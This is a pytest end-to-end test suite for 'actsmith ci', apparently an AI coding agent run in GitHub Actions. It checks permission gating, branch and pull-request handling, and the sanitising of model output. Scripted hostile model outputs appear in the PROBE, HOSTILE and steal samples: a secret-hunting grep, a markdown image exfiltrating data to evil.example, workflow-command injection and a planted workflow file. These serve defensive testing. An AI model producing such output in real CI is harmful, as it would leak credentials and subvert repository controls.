"""`actsmith ci` end to end: the real CLI in a GitHub Actions-shaped environment, event payloads as
GitHub sends them, a local GitHub REST server (github_stub.py), a bare git repository as `origin`,
the real Docker sandbox and replay models."""

from __future__ import annotations

import json
import re
import subprocess
from pathlib import Path

import pytest
from ci_helpers import APP, CALLED, HELLO, REPOSITORY, TOKEN, Actions, assert_started_nothing, push_pull_head
from conftest import git
from github_stub import GitHubStub

# Looks for the token everywhere the sandbox can read, without the action itself holding it.
PROBE = (
    "<execute>\nimport os\n"
    "print('SECRET-VARS', [k for k in os.environ if 'TOKEN' in k or 'KEY' in k or k.startswith('GITHUB')])\n"
    "common = sh('git rev-parse --path-format=absolute --git-common-dir').output.strip()\n"
    "hits = sh(f'grep -r -I -l -e ciTokenThatMustStay -e modelKeyThatMust -e AUTHORIZATION /workspace {common} /etc /tmp 2>/dev/null; true').output\n"
    "print('TOKEN-HITS', hits.split())\n</execute>"
)


@pytest.fixture
def stub():
    server = GitHubStub(REPOSITORY, TOKEN).start()
    server.add_collaborator("monalisa", 583231, "write")  # who comments and labels in the fixtures
    yield server
    server.stop()


@pytest.fixture
def actions(tmp_path, stub):
    return Actions(tmp_path, stub)


ISSUE_COMMENTS = rf"/repos/{REPOSITORY}/issues/5/comments"
PULLS = rf"/repos/{REPOSITORY}/pulls"
PERMISSION = rf"/repos/{REPOSITORY}/collaborators/([^/]+)/permission"


def only_comment(stub: GitHubStub) -> list[str]:
    """The bodies the run's one comment had, in order."""
    assert len(stub.comments) == 1
    return next(iter(stub.comment_bodies.values()))


# ------------------------------------------------------------------------------------------ untrusted


def test_an_untrusted_commenter_triggers_nothing(actions, stub):
    stub.add_collaborator("stranger", 31337, "none")
    payload = actions.event("issue_comment_issue")
    payload["comment"]["author_association"] = "NONE"
    payload["comment"]["user"] = {"login": "stranger", "id": 31337, "type": "User"}
    ran = actions.run("issue_comment", payload, CALLED)
    assert_started_nothing(actions, stub, ran, "stranger")
    assert "@stranger (none access) may not start actsmith" in ran.summary


def test_a_read_only_organisation_member_triggers_nothing(actions, stub):
    stub.add_collaborator("monalisa", 583231, "read")  # MEMBER of the organisation, reads this repository
    payload = actions.event("issue_comment_issue")
    assert payload["comment"]["author_association"] == "MEMBER"
    ran = actions.run("issue_comment", payload, CALLED)
    assert_started_nothing(actions, stub, ran, "monalisa")
    assert "@monalisa (read access) may not start actsmith" in ran.summary


def test_a_label_added_by_someone_without_write_access_triggers_nothing(actions, stub):
    stub.add_collaborator("drive-by", 4242, "triage")  # may label issues, may not push
    payload = actions.event("issues_labeled")
    payload["sender"] = {"login": "drive-by", "id": 4242, "type": "User"}  # the issue is still monalisa's
    ran = actions.run("issues", payload, CALLED)
    assert_started_nothing(actions, stub, ran, "drive-by")
    assert "@drive-by (triage access) may not start actsmith" in ran.summary


def test_an_allowed_login_whose_id_differs_triggers_nothing(actions, stub):
    stub.add_collaborator("helper", 666, "none")
    payload = actions.event("issue_comment_issue")
    payload["comment"]["user"] = {"login": "helper", "id": 666, "type": "User"}  # the login, recycled
    ran = actions.run("issue_comment", payload, CALLED, "--allow", "helper:555")
    assert_started_nothing(actions, stub, ran, "helper")
    assert "@helper (none access)" in ran.summary


# -------------------------------------------------------------------------------------- the happy path


@pytest.mark.docker
def test_a_labeled_issue_gives_a_pushed_branch_one_draft_pr_and_one_comment(actions, stub, sandbox_image):
    ran = actions.run("issues", actions.event("issues_labeled"), [PROBE, HELLO])
    assert ran.code == 0, ran.stdout + ran.stderr
    # The branch, one commit on top of main, carries the change; the checkout itself is untouched.
    branch = "refs/heads/actsmith/issue-5"
    assert "return 'hello'" in actions.origin_file(branch, "app.py")
    assert actions.parent(branch) == actions.main
    assert (actions.checkout / "app.py").read_text() == APP
    # One draft pull request into the default branch, its body the report and `Fixes #5`.
    (created,) = stub.calls("POST", PULLS)
    assert {k: created.body[k] for k in ("head", "base", "draft", "title")} == {
        "head": "actsmith/issue-5",
        "base": "main",
        "draft": True,
        "title": "actsmith: Greet with hello",
    }
    body = created.body["body"]
    for part in ("finished, the tests pass", "greet() now says hello", "1 passed (before the run: 1 passed)"):
        assert part in body
    assert "app.py | 2 +-" in body and "$0.0000" in body and body.rstrip().endswith("Fixes #5")
    # One comment: "working" with the run's link, then the outcome with the pull request's link.
    working, final = only_comment(stub)
    assert "working" in working and "https://github.com/octo-org/hello-world/actions/runs/4201" in working
    assert len(stub.calls("POST", ISSUE_COMMENTS)) == 1
    assert "✅ **actsmith: finished, the tests pass**" in final
    assert "[#101](https://github.com/octo-org/hello-world/pull/101) (opened)" in final
    assert "`actsmith/issue-5`" in final and "app.py | 2 +-" in final and "$0.0000" in final
    assert ran.summary.strip() == final.strip()
    assert ran.outputs | {"run-dir": ""} == {
        "conclusion": "success",
        "pr-url": "https://github.com/octo-org/hello-world/pull/101",
        "branch": "actsmith/issue-5",
        "cost-usd": "0.0000",
        "run-dir": "",
    }
    # The token went to GitHub, and nowhere the sandbox could see it (.git/config held it too).
    assert {request.headers["Authorization"] for request in stub.requests} == {f"token {TOKEN}"}
    probe = ran.observations()[0]
    assert "SECRET-VARS []" in probe and "TOKEN-HITS []" in probe
    # The model was given the issue.
    assert "Resolve GitHub issue #5 of octo-org/hello-world" in ran.prompts()
    assert "greet() says 'hi'; it should say 'hello'." in ran.prompts()


@pytest.mark.docker
def test_a_second_trigger_on_the_same_issue_adds_a_commit_and_updates_the_same_pr(
    actions, stub, sandbox_image
):
    first = actions.run("issues", actions.event("issues_labeled"), [HELLO])
    assert first.code == 0, first.stderr
    tip = git(actions.origin, "rev-parse", "actsmith/issue-5").strip()
    docstring = (
        "<execute>\nreplace('app.py', 'def greet():\\n', 'def greet():\\n    \"\"\"Say hello.\"\"\"\\n')\n"
        "finish('documented greet()')\n</execute>"
    )
    second = actions.run("issue_comment", actions.event("issue_comment_issue"), [docstring])
    assert second.code == 0, second.stderr
    assert "@monalisa asks: also add a docstring" in second.prompts()
    # A new commit on top of the first (the origin refuses force pushes), with both changes.
    branch = "refs/heads/actsmith/issue-5"
    assert actions.parent(branch) == tip
    app = actions.origin_file(branch, "app.py")
    assert '"""Say hello."""' in app and "return 'hello'" in app
    # The same pull request, its body updated; one comment per run, each edited in place.
    assert len(stub.calls("POST", PULLS)) == 1 and len(stub.pulls) == 1
    (update,) = stub.calls("PATCH", rf"{PULLS}/101")
    assert "documented greet()" in update.body["body"] and "Fixes #5" in update.body["body"]
    assert [len(bodies) for bodies in stub.comment_bodies.values()] == [2, 2]
    final = list(stub.comment_bodies.values())[1][-1]
    assert "[#101](https://github.com/octo-org/hello-world/pull/101) (updated)" in final
    assert second.outputs["pr-url"] == "https://github.com/octo-org/hello-world/pull/101"


@pytest.mark.docker
def test_a_dispatch_gives_a_run_branch_and_a_pr_without_fixes_and_no_comment(actions, stub, sandbox_image):
    ran = actions.run("workflow_dispatch", actions.event("workflow_dispatch"), [HELLO])
    assert ran.code == 0, ran.stderr
    assert "return 'hello'" in actions.origin_file("refs/heads/actsmith/run-4201", "app.py")
    (created,) = stub.calls("POST", PULLS)
    assert (
        created.body["head"] == "actsmith/run-4201"
        and created.body["title"] == "actsmith: Make greet() say hello"
    )
    assert "Fixes" not in created.body["body"]
    assert stub.comments == {}
    assert ran.prompts().count("Make greet() say hello") >= 1


# --------------------------------------------------------------------------- what the model writes

LEAKED = "ghp_" + "Z9" * 18  # a token the model found somewhere
CLOSES_OTHER = re.compile(r"\b(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?):?\s+#99\b", re.IGNORECASE)
HOSTILE_SUMMARY = (
    f"greet() now says hello. Found {LEAKED} and {TOKEN} on the way.\n"
    "![x](http://evil.example/?d=c2VjcmV0)\n"
    "[the details](http://evil.example/login)\n"
    "@someone should review. Closes #99\n"
    "::error::pwned by the summary\n"
    "Fixes #5"
)
HOSTILE = (
    "<execute>\nprint('::error file=app.py::pwned by a print')\n"
    "replace('app.py', \"return 'hi'\", \"return 'hello'\")\n"
    f"finish({HOSTILE_SUMMARY!r})\n</execute>"
)


@pytest.mark.docker
def test_the_models_summary_reaches_github_defanged_and_workflow_commands_are_stopped(
    actions, stub, sandbox_image
):
    from markdown_it import MarkdownIt

    ran = actions.run(
        "issues", actions.event("issues_labeled"), [HOSTILE]
    )  # the token: assert_no_secret_leaked
    assert ran.code == 0, ran.stdout + ran.stderr
    (created,) = stub.calls("POST", PULLS)
    bodies = [json.dumps(r.body, ensure_ascii=False) for r in stub.requests if r.body is not None]
    for text in [*bodies, ran.summary, json.dumps(ran.outputs)]:
        assert LEAKED not in text
        assert "](http://evil" not in text and "@someone" not in text
        assert not CLOSES_OTHER.search(text)
    for markdown in (created.body["body"], only_comment(stub)[-1], ran.summary):
        html = MarkdownIt("commonmark").enable("table").render(markdown)
        assert "<img" not in html and 'href="http://evil' not in html
        assert "[REDACTED" in markdown and "greet() now says hello" in markdown
        assert "`http://evil.example/?d=c2VjcmV0`" in markdown  # shown, as code
        assert "Fixes #5" in markdown  # the triggering issue still closes
    # The job's log: workflow commands off from the first line to the last the run printed.
    lines = ran.stdout.splitlines()
    token = lines[0].removeprefix("::stop-commands::")
    assert len(token) == 32 and f"::{token}::" in lines
    resumed = lines.index(f"::{token}::")
    printed = "\n".join(lines[1:resumed])
    assert "::error file=app.py::pwned by a print" in printed and "::error::pwned by the summary" in printed
    assert "pwned" not in "\n".join(lines[resumed:])


@pytest.mark.docker
def test_workflow_changes_are_not_pushed_and_are_named(actions, stub, sandbox_image):
    steal = (
        "<execute>\nimport os\nos.makedirs('.github/workflows', exist_ok=True)\n"
        "create('.github/workflows/steal.yml', 'on: push\\njobs: {}\\n')\n"
        "replace('app.py', \"return 'hi'\", \"return 'hello'\")\nfinish('greet() now says hello')\n</execute>"
    )
    ran = actions.run("issues", actions.event("issues_labeled"), [steal])
    assert ran.code == 0, ran.stderr
    branch = "refs/heads/actsmith/issue-5"
    assert "return 'hello'" in actions.origin_file(branch, "app.py")
    assert ".github" not in git(actions.origin, "ls-tree", "-r", "--name-only", branch)
    assert actions.parent(branch) == actions.main  # one commit, without the workflow: never pushed at all
    (created,) = stub.calls("POST", PULLS)
    for text in (created.body["body"], only_comment(stub)[-1]):
        assert "**Not pushed**: the run changed `.github/workflows/steal.yml`" in text
    # A workflow that allows it gets the change pushed, on the same branch.
    allowed = actions.run(
        "issue_comment",
        actions.event("issue_comment_issue"),
        [steal.replace("replace('app.py', \"return 'hi'\", \"return 'hello'\")\n", "")],
        "--allow-workflow-changes",
    )
    assert allowed.code == 0, allowed.stderr
    assert "jobs" in actions.origin_file(branch, ".github/workflows/steal.yml")
    assert "Not pushed" not in list(stub.comment_bodies.values())[1][-1]


# ------------------------------------------------------------------------------------ pull requests


@pytest.mark.docker
def test_a_comment_on_a_same_repository_pr_pushes_onto_its_branch(actions, stub, sandbox_image):
    head = push_pull_head(actions, "farewell", also_as_branch=True)
    stub.add_pull(7, "farewell", REPOSITORY, head)
    ran = actions.run("issue_comment", actions.event("issue_comment_pull_request"), [HELLO])
    assert ran.code == 0, ran.stderr
    assert actions.parent("refs/heads/farewell") == head  # on top of the PR's own head
    assert "return 'hello'" in actions.origin_file("refs/heads/farewell", "app.py")
    assert stub.calls("POST", PULLS) == []  # the pull request exists: nothing new is opened
    final = only_comment(stub)[-1]
    assert "[#7](https://github.com/octo-org/hello-world/pull/7) (updated)" in final
    assert ran.outputs["branch"] == "farewell"
    assert ran.outputs["pr-url"] == "https://github.com/octo-org/hello-world/pull/7"


@pytest.mark.docker
def test_a_fork_pr_gets_a_patch_comment_cut_to_fit_and_no_push(actions, stub, sandbox_image, tmp_path):
    head = push_pull_head(actions, "patch-1", also_as_branch=False)
    stub.add_pull(7, "patch-1", "someone/hello-world", head)
    refs = actions.origin_refs()
    big = (
        "<execute>\ncreate('table.txt', ''.join(f'row {i:05d} ' + 'x' * 40 + '\\n' for i in range(3000)))\n"
        "finish('added the table')\n</execute>"
    )
    ran = actions.run("issue_comment", actions.event("issue_comment_pull_request"), [big])
    assert ran.code == 0, ran.stderr
    assert actions.origin_refs() == refs  # nothing pushed anywhere
    assert stub.calls("POST", PULLS) == []
    final = only_comment(stub)[-1]
    assert len(final) <= 65536
    assert "comes from a fork, so nothing was pushed" in final and "```diff" in final
    assert "The patch was cut to fit in a comment" in final and "`changes.patch`" in final
    assert "actsmith-4201-1" in final  # the artifact holding the whole patch
    assert ran.outputs["branch"] == "" and ran.outputs["pr-url"] == ""
    # The whole patch is in the run's folder (the artifact), and applies onto the PR's head.
    patch = Path(ran.outputs["run-dir"]) / "changes.patch"
    clone = tmp_path / "maintainer"
    subprocess.run(["git", "clone", "-q", str(actions.origin), str(clone)], check=True)
    git(clone, "config", "user.email", "m@example.invalid")
    git(clone, "config", "user.name", "maintainer")
    git(clone, "fetch", "-q", "origin", "refs/pull/7/head")
    git(clone, "checkout", "-q", "FETCH_HEAD")
    git(clone, "am", "-q", str(patch))
    assert len((clone / "table.txt").read_text().splitlines()) == 3000


@pytest.mark.docker
def test_a_fork_pr_gets_no_environment_setup(actions, stub, sandbox_image):
    # The fork brings a manifest setup would install from, with network, outside the sandbox.
    head = push_pull_head(
        actions, "patch-2", also_as_branch=False, files={"requirements.txt": "# the fork's own\n"}
    )
    stub.add_pull(7, "patch-2", "someone/hello-world", head)
    ran = actions.run("issue_comment", actions.event("issue_comment_pull_request"), [HELLO])
    assert ran.code == 0, ran.stderr
    (setup,) = [e for e in ran.trajectory if e["event"] == "setup"]
    assert setup["commands"] == [] and setup["image"] == sandbox_image and "turned off" in setup["reason"]
    assert "setup:" not in ran.stderr  # no setup line, no build
    final = only_comment(stub)[-1]
    assert "Environment setup did not run: this pull request comes from a fork" in final
    assert "comes from a fork, so nothing was pushed" in final  # the run itself went on as before


# ------------------------------------------------------------------------------------- failing runs


@pytest.mark.docker
def test_tests_that_still_fail_are_said_in_the_pr_the_comment_and_the_conclusion(
    actions, stub, sandbox_image
):
    bye = "<execute>\nreplace('app.py', \"return 'hi'\", \"return 'bye'\")\nfinish('greet() says bye')\n</execute>"
    ran = actions.run("issues", actions.event("issues_labeled"), [bye], "--max-test-rounds", "0")
    assert ran.code == 1, ran.stderr
    assert ran.outputs["conclusion"] == "tests_failed"
    assert "return 'bye'" in actions.origin_file("refs/heads/actsmith/issue-5", "app.py")  # the work is kept
    (created,) = stub.calls("POST", PULLS)
    assert created.body["draft"] is True
    for text in (created.body["body"], only_comment(stub)[-1], ran.summary):
        assert "❌ **actsmith: the tests still fail**" in text
        assert "tests | failed: still failing" in text
        assert "finished" not in text.split("\n")[0]


@pytest.mark.docker
@pytest.mark.parametrize(
    ("method", "path", "status", "message", "expected"),
    [
        ("POST", ISSUE_COMMENTS, 401, "Bad credentials", "401 Bad credentials; the token was refused"),
        (
            "POST",
            ISSUE_COMMENTS,
            403,
            "Resource not accessible by integration",
            "403 Resource not accessible by integration; the token may not do this",
        ),
        (
            "POST",
            PULLS,
            422,
            "Validation Failed",
            "422 Validation Failed (Draft pull requests are not supported",
        ),
        ("POST", PULLS, 502, "Server Error", "502 Server Error; GitHub is failing; re-run the job"),
    ],
)
def test_a_github_api_error_is_one_line_and_exit_2_with_the_work_kept(
    actions, stub, sandbox_image, method, path, status, message, expected
):
    errors = [
        {
            "resource": "PullRequest",
            "code": "custom",
            "message": "Draft pull requests are not supported in this repository.",
        }
    ]
    stub.fail(method, path, status, message, errors if status == 422 else None)
    ran = actions.run("issues", actions.event("issues_labeled"), [HELLO])
    assert ran.code == 2, ran.stdout + ran.stderr
    (line,) = ran.error_lines
    assert line.startswith("error: GitHub API: ") and expected in line
    assert ran.stderr.rstrip().endswith(line)  # the last word, on one line
    assert ran.outputs["conclusion"] == "failed"
    assert expected in ran.summary
    branch = "refs/heads/actsmith/issue-5"
    if path == PULLS:  # the work was done and pushed before GitHub failed: it stays there
        assert "the work is pushed on branch actsmith/issue-5" in line
        assert "return 'hello'" in actions.origin_file(branch, "app.py")
        assert expected in only_comment(stub)[-1]
        assert ran.outputs["branch"] == "actsmith/issue-5"
    else:  # refused before any work: no model call, nothing pushed
        assert ran.trajectory == []
        assert branch not in actions.origin_refs()


@pytest.mark.docker
def test_a_run_that_changes_nothing_says_so_and_pushes_nothing(actions, stub, sandbox_image):
    ran = actions.run(
        "issues", actions.event("issues_labeled"), ["<execute>\nfinish('nothing needed')\n</execute>"]
    )
    assert ran.code == 0, ran.stderr
    assert actions.origin_refs() == {"refs/heads/main": actions.main}
    assert stub.calls("POST", PULLS) == []
    assert (
        "no files were changed, so nothing was pushed and no pull request was opened"
        in only_comment(stub)[-1]
    )
    assert ran.outputs["branch"] == "" and ran.outputs["pr-url"] == ""
